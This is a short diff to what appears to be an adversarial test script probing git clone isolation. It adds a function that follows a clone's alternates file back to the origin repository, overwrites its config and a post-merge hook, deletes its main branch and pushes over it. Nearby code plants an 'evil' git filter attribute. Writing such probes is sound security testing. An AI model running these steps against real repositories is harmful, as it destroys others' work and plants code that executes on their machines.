@@ -161,6 +161,18 @@ def poisons_its_clone() -> None:
     put(".git/info/attributes", "* filter=evil\n")
 
 
+def reaches_out() -> None:
+    """Into the repository that it was cloned from, whose objects it can read."""
+    root = Path(Path(".git/objects/info/alternates").read_text().strip()).parents[1]
+    for path in (root / "docs/a.md", root / ".git/config", root / ".git/hooks/post-merge", root / "new"):
+        try:
+            path.write_text("mine\n")
+        except OSError as error:
+            print(error)
+    subprocess.run(["git", "-C", str(root), "update-ref", "-d", "refs/heads/main"], check=False)
+    subprocess.run(["git", "push", "--quiet", str(root), "HEAD:refs/heads/main"], check=False)
+
+
 # --- it does not end well --------------------------------------------------------------------------------
 
 
